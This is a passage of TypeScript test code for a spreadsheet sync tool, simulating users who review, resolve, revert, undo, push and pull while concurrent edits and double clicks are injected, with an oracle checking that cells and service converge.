  return applyChoice(sim, who, who.review.conflicts, dice.pick(['mine', 'theirs'] as const)!, true);
};

export async function applyChoice(
  sim: Sim,
  who: Person,
  conflicts: ReviewSeen['conflicts'],
  take: 'mine' | 'theirs',
  all: boolean,
): Promise<string> {
  if (take === 'mine') sim.oracle.keep(conflicts);
  else
    sim.oracle.choose(
      conflicts.map(({ tab, key, column, mine, theirs }) => ({
        tab,
        key,
        header: column,
        seen: mine,
        to: theirs,
      })),
    );
  const done = await sim.ask<ReviewSeen>(
    who.user,
    'reviewResolve',
    resolveArgs(who.review!, conflicts, take, all),
  );
  if (done.ok && done.value) await showReview(sim, who.user, done.value, take === 'mine' ? conflicts : []);
  return `${who.user} takes ${take} of ${conflicts.length}: ${done.ok || done.sentence}`;
}

/** A running push still sends the value that was approved: the reverted cell is then a new edit. */
function editedDuringJob(sim: Sim, { tab, key, changes }: ReviewSeen['rows'][number]): void {
  const { keys } = tabById(tab)!;
  const row = sim.oracle
    .sheetOf(tab)
    ?.rows.find(({ cells }) => keys.map((header) => cells[header]?.value).join(' | ') === key);
  for (const { column } of row ? changes : []) {
    const cell = row!.cells[column];
    if (cell) sim.oracle.typed(tab, marker(row!), column, cell.value, cell.formula);
  }
}

const revert: Step = async (sim, dice) => {
  const user = anyone(dice);
  const who = sim.people[user]!;
  if (!who.review || who.review.rows.length === 0) await lookAtReview(sim, user);
  const row = dice.pick((who.review?.rows ?? []).filter(({ action }) => action === 'update'));
  if (!row) return 'nothing to revert';
  sim.oracle.choose(
    row.changes.map(({ column, before, after }) => ({
      tab: row.tab,
      key: row.key,
      header: column,
      seen: after,
      to: before,
    })),
  );
  const done = await sim.ask<ReviewSeen>(user, 'reviewRevert', revertArgs(who.review!, row));
  if (done.ok && sim.job) editedDuringJob(sim, row);
  if (done.ok && done.value) await showReview(sim, user, done.value);
  return `${user} reverts ${row.tab} ${row.key}: ${done.ok || done.sentence}`;
};

const check: Step = async (sim, dice) => {
  const user = anyone(dice);
  const done = await sim.ask<unknown>(user, 'checkRun', []);
  if (done.ok) sim.people[user]!.fixes = fixesOf(done.value, sim);
  return `${user} checks: ${sim.people[user]!.fixes.length} fixes`;
};

const fix: Step = async (sim, dice) => {
  const user = anyone(dice);
  const who = sim.people[user]!;
  if (who.fixes.length === 0) await check(sim, dice);
  const chosen = dice.chance(0.3) ? who.fixes : [dice.pick(who.fixes)].filter((one) => one !== null);
  if (chosen.length === 0) return 'nothing to fix';
  sim.oracle.choose(chosen.map(({ tab, header, marker: key, seen, to }) => ({ tab, key, header, seen, to })));
  const done = await sim.ask<unknown>(user, 'checkFix', [chosen.map(({ cell }) => cell)]);
  who.fixes = [];
  // A fixed cell is an edit of this person.
  for (const { tab, header, marker: own, to } of done.ok ? chosen : []) {
    const cell = sim.oracle.sheetOf(tab)?.rows.find((row) => marker(row) === own)?.cells[header];
    if (
      cell &&
      header in tabById(tab)!.edits &&
      (to === null || isShown(to, cell.value, sim.world.decimalComma))
    )
      sim.oracle.typed(tab, own, header, cell.value, cell.formula);
  }
  return `${user} fixes ${chosen.length}: ${done.ok || done.sentence}`;
};

export async function lookAtUndo(sim: Sim, dice: Dice, user: string): Promise<UndoSeen | null> {
  const runs = await sim.ask<{ runs: { run: string; undoes: string }[] }>(user, 'undoRuns', [10]);
  const run = dice.pick(runs.value?.runs ?? []);
  if (!run) return null;
  const view = await sim.ask<UndoSeen>(user, 'undoPreview', [run.run, null]);
  sim.people[user]!.undo = view.value ?? null;
  if (view.ok && view.value) sim.oracle.undoListed(view.value);
  return sim.people[user]!.undo;
}

const restoredIn = (view: UndoSeen): UndoSeen['values'] =>
  view.values.filter(({ kind }) => kind === 'restored');

const undoLook: Step = async (sim, dice) => {
  const user = anyone(dice);
  const view = await lookAtUndo(sim, dice, user);
  return `${user} looks at an undo of ${view ? restoredIn(view).length : 'no'} values`;
};

/** The cell with a key that was named in an answer. */
function cellNamed(sim: Sim, { tab, key, column }: UndoSeen['values'][number]) {
  const { keys } = tabById(tab)!;
  const row = sim.oracle
    .sheetOf(tab)
    ?.rows.find(({ cells }) => keys.map((header) => cells[header]?.value).join(' | ') === key);
  const cell = row?.cells[column];
  return row && cell ? { row, cell } : null;
}

/** Writes the old values into the cells: each is then an edit of this person. Returns whether it was done. */
async function restoreCells(sim: Sim, user: string, view: UndoSeen): Promise<boolean> {
  const values = restoredIn(view);
  sim.oracle.choose(
    values.map(({ tab, key, column, current, old }) => {
      return { tab, key, header: column, seen: current ?? '', to: old ?? '' };
    }),
  );
  const done = await sim.ask<unknown>(user, 'undoWrite', [{ run: view.run, cell: null, token: view.token }]);
  if (done.ok) sim.figures.undone += 1;
  for (const value of done.ok || done.cut ? values : []) {
    const place = cellNamed(sim, value);
    if (place && isShown(value.old ?? '', place.cell.value, sim.world.decimalComma))
      sim.oracle.typed(value.tab, marker(place.row), value.column, place.cell.value, place.cell.formula);
  }
  return done.ok;
}

/** Whether texts of an undo and of a review are of the same value. A box that was never set is off. */
const isSameText = (old: string, after: string): boolean =>
  old === after || [old, after].every((text) => text === '' || text === 'off');

/** The rows of the review that the dialog selects: each change of a restored cell leads to its old value. */
async function undoneRows(
  sim: Sim,
  user: string,
  view: UndoSeen,
  review: ReviewSeen,
): Promise<ReviewSeen['rows']> {
  const query = { token: review.token, undoes: view.run, from: 0 };
  const picked = await sim.ask<{ rows: { tab: string; key: string }[] }>(user, 'reviewPick', [query]);
  const nameOf = ({ tab, key }: { tab: string; key: string }): string => JSON.stringify([tab, key]);
  const names = new Set((picked.value?.rows ?? []).map(nameOf));
  const rows = review.rows.filter((row) => names.has(nameOf(row)));
  for (const row of sim.oracle.hostile ? [] : rows) {
    const values = view.values.filter((value) => nameOf(value) === nameOf(row));
    const isOld = ({ column, after }: (typeof row.changes)[number]): boolean =>
      values.some(({ column: header, old }) => header === column && old !== null && isSameText(old, after));
    if (row.action !== 'update' || !row.changes.some(isOld))
      sim.oracle.fail('undo', `${nameOf(row)} is selected, and restores none of ${JSON.stringify(values)}`);
  }
  return rows;
}

/** Writes the old values as edits, reviews them and pushes only their rows. */
export async function startUndo(sim: Sim, dice: Dice, user: string): Promise<string> {
  const view = sim.people[user]!.undo;
  sim.people[user]!.undo = null;
  if (!view || restoredIn(view).length === 0) return 'nothing to undo';
  const written = `${user} restores ${restoredIn(view).length} values`;
  if (!(await restoreCells(sim, user, view))) return `${written}: refused`;
  const review = dice.chance(0.8) ? await lookAtReview(sim, user) : null;
  if (!review) return written;
  const rows = await undoneRows(sim, user, view, review);
  const others = review.rows.filter((row) => !rows.includes(row));
  const started = rows.length > 0 && (await startPush(sim, dice, user, others, view.run));
  if (started && dice.chance(0.7)) await finish(sim, user);
  return `${written} and pushes ${rows.length} rows: ${started}`;
}

export const undoStart: Step = (sim, dice) => startUndo(sim, dice, anyone(dice));

const undoAll: Step = async (sim, dice) => {
  const user = anyone(dice);
  await finish(sim, sim.jobOwner || user);
  await lookAtUndo(sim, dice, user);
  return undoStart(sim, dice);
};

const chooseCompany: Step = async (sim, dice) => {
  const user = anyone(dice);
  const list = await sim.ask<{ connections: { id: string; company: string }[]; current: string | null }>(
    user,
    'connectionList',
    [],
  );
  const connections = list.value?.connections ?? [];
  const chosen = dice.chance(0.5) ? connections[0] : dice.pick(connections);
  if (!chosen) return 'no connection';
  const done = await sim.ask<unknown>(user, 'connectionChoose', [chosen.id]);
  return `${user} chooses ${chosen.company}: ${done.ok || done.sentence}`;
};

// ---- while an execution runs
// -------------------------------------------------------------------------------------

export type Intrusion =
  | 'typed'
  | 'elsewhere'
  | 'sort'
  | 'insertRows'
  | 'deleteRow'
  | 'sortLog'
  | 'trimLog'
  | 'insertColumn'
  | 'moveColumn';

export async function intrude(sim: Sim, dice: Dice, among: readonly Intrusion[]): Promise<string> {
  const what = dice.pick(among)!;
  const did = what === 'typed' ? await edit(sim, dice) : await (STEPS[what] as Step)(sim, dice);
  sim.trace.push(`  meanwhile: ${did}`);
  return did;
}

const moments = (sim: Sim, dice: Dice, count: number, most: number, among: readonly Intrusion[]): Faults => ({
  meanwhile: new Map(
    Array.from({ length: count }, () => [
      Math.floor(dice.next() * most) + 1,
      async () => void (await intrude(sim, dice, among)),
    ]),
  ),
});

const AT_THE_GRID: readonly Intrusion[] = [
  'typed',
  'typed',
  'typed',
  'typed',
  'elsewhere',
  'sort',
  'insertRows',
  'deleteRow',
];

const typingPull: Step = async (sim, dice) => {
  const user = anyone(dice);
  const faults = moments(sim, dice, dice.whole(1, 6), 420, AT_THE_GRID);
  const began = await startPull(sim, user, faults);
  if (began) await finish(sim, user);
  return `${user} pulls while others work: ${began}`;
};

const typingPush: Step = async (sim, dice) => {
  const user = anyone(dice);
  await finish(sim, sim.jobOwner || user);
  const view = await sim.ask<ReviewSeen>(
    user,
    'reviewBuild',
    [],
    moments(sim, dice, dice.whole(0, 3), 250, AT_THE_GRID),
  );
  if (view.ok && view.value) await showReview(sim, user, { ...view.value, changed: null });
  if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
  const stepped = await sim.ask<JobSeen>(
    user,
    'jobStep',
    [sim.job],
    moments(sim, dice, dice.whole(1, 5), 420, AT_THE_GRID),
  );
  sim.saw(stepped.value);
  if (sim.job) await finish(sim, user);
  return `${user} pushes while others work`;
};

/** The same person in a second window, or a colleague, at the same moment. */
export const twoWindows = async (sim: Sim, dice: Dice, wanted?: 'start' | 'step'): Promise<string> => {
  const user = anyone(dice);
  const starts = wanted ? wanted === 'start' : !sim.job || dice.chance(0.5);
  if (starts) {
    await finish(sim, sim.jobOwner || user);
    const view = await lookAtReview(sim, user);
    if (!view || view.rows.length === 0) return 'nothing to push';
  }
  const view = sim.people[user]!.review;
  const job = sim.job;
  if (starts ? !view : !job) return 'nothing to do twice';
  const args = starts ? pushArgs(view!, []) : [job];
  const name = starts ? 'pushStart' : 'jobStep';
  const owner = starts ? user : sim.jobOwner || user;
  const approval = starts ? sim.oracle.approve(user, view!.account, view!.rows) : null;
  const at = Math.floor(dice.next() ** 2 * 200) + 1;
  let beside: Dependencies | null = null;
  const first = await sim.ask<JobSeen>(owner, name, args, {
    meanwhile: new Map([
      [
        at,
        async () => {
          beside = await sim.world.beside({ user: owner, name, args, session: 'page-second' });
        },
      ],
    ]),
  });
  const other = (beside as Dependencies | null) ? await (beside as unknown as Dependencies).finish() : null;
  const second = (other?.value as { ok: boolean; value?: JobSeen } | undefined) ?? null;
  if (starts && first.ok && second?.ok && first.value!.id !== second.value?.id)
    sim.oracle.fail('two-runs', `two simultaneous clicks started ${first.value!.id} and ${second.value?.id}`);
  const started = first.ok ? first.value : second?.ok ? second.value : null;
  if (approval) {
    if (started) approval.job = started.id;
    else sim.oracle.refuse(approval);
    sim.people[user]!.review = null;
    if (started) sim.jobOwner = user;
  }
  if (started) sim.saw(started);
  if (!starts && second?.ok) sim.saw(second.value);
  if (starts && sim.job) await finish(sim, user);
  return `${owner} ${name} twice at call ${at}: ${first.ok} ${second?.ok ?? 'not run'}`;
};

/** Marks and Change are written while rows and columns move. */
const typingCheck: Step = async (sim, dice) => {
  const user = anyone(dice);
  const name = dice.pick(['checkRun', 'reviewBuild'] as const)!;
  const faults = moments(sim, dice, dice.whole(1, 4), 260, [
    'sort',
    'sort',
    'moveColumn',
    'insertRows',
    'insertColumn',
    'typed',
  ]);
  await sim.ask(user, name, [], faults);
  return `${user} ${name} while others move rows`;
};

export const STEPS = {
  edit,
  editAgain,
  targetsEdit,
  assetEdit,
  newRow,
  automatic,
  clear,
  formula,
  sort,
  insertRows,
  deleteRow,
  insertColumn,
  moveColumn,
  filter,
  renameTab,
  copyTab,
  disable,
  editDisabled,
  enable,
  sortLog,
  trimLog,
  elsewhere,
  hostileElsewhere,
  elsewhereJust,
  renameCreated,
  clock,
  pull,
  check,
  fix,
  review,
  resolve,
  resolveAll,
  revert,
  push,
  pushAll,
  pushSlow,
  lostPush,
  eachFault,
  killedCall,
  stepJob,
  finishJob,
  cancel,
  undoLook,
  undoStart,
  undoAll,
  chooseCompany,
  typingPull,
  typingPush,
  typingCheck,
  twoWindows,
  tamper,
  tamperMetadata,
  anyCall,
  madeUpPush,
} satisfies Record<string, Step>;

/** More than a job of this size needs, pauses included. */
const MOST_STEPS = 60;

/**
 * Without further faults, ends jobs, resolves conflicts and pulls everything. Then cells and service must
 * agree.
 */
export async function converge(sim: Sim): Promise<void> {
  for (const who of Object.values(sim.people)) Object.assign(who, { review: null, undo: null });
  sim.world.pass(7_300_000);
  restoreHeaders(sim);
  await openAllCells(sim);
  await backToFirst(sim);
  await endJob(sim);
  await startPull(sim, ANNA);
  await endJob(sim);
  sim.oracle.check();
  const view = await lookAtReview(sim, ANNA);
  if (view && view.conflicts.length > 0)
    await applyChoice(
      sim,
      sim.people[ANNA]!,
      view.conflicts.filter(({ blocked }) => blocked === ''),
      'mine',
      false,
    );
  sim.oracle.check();
  sim.world.pass(60_000);
  await startPull(sim, ANNA);
  await endJob(sim);
  sim.oracle.check();
  sim.oracle.converged();
  let last = await lookAtReview(sim, ANNA);
  if (last === null) {
    // The hourly limit that the service reported is used up.
    sim.world.pass(3_700_000);
    last = await lookAtReview(sim, ANNA);
  }
  if (sim.oracle.hostile) return;
  if (last === null || last.obstacle !== '') {
    sim.oracle.fail('stuck', `nothing can be pushed any more: ${last?.obstacle ?? 'no review'}`);
    return;
  }
  sim.oracle.remembered(
    new Set([...last.rows, ...last.held, ...last.conflicts].map(({ tab, key }) => `${tab} ${key}`)),
  );
}

async function backToFirst(sim: Sim): Promise<void> {
  const list = await sim.ask<{ connections: { id: string }[]; current: string | null }>(
    ANNA,
    'connectionList',
    [],
  );
  const first = list.value?.connections[0];
  if (first && list.value?.current !== first.id) await sim.ask(ANNA, 'connectionChoose', [first.id]);
}

async function endJob(sim: Sim): Promise<void> {
  const { Violation } = await import('./oracle');
  const current = await sim.ask<JobSeen | null>(ANNA, 'jobCurrent', []);
  sim.saw(current.value);
  let owner = sim.jobOwner || ANNA;
  for (let i = 0; i < MOST_STEPS && sim.job; i += 1) {
    const stepped = await sim.ask<JobSeen & { resumeAt: number | null }>(owner, 'jobStep', [sim.job]);
    sim.saw(stepped.value);
    if (stepped.value?.state === 'parked') sim.world.pass(3_700_000);
    if (!stepped.ok) {
      owner = otherOf(owner);
      sim.world.pass(200_000);
      if (i > 8) {
        const canceled = await sim.ask<JobSeen>(owner, 'jobCancel', [sim.job]);
        sim.saw(canceled.value);
      }
    }
  }
  if (sim.job) throw new Violation('never-ends', `the job ${sim.job} does not end`);
}
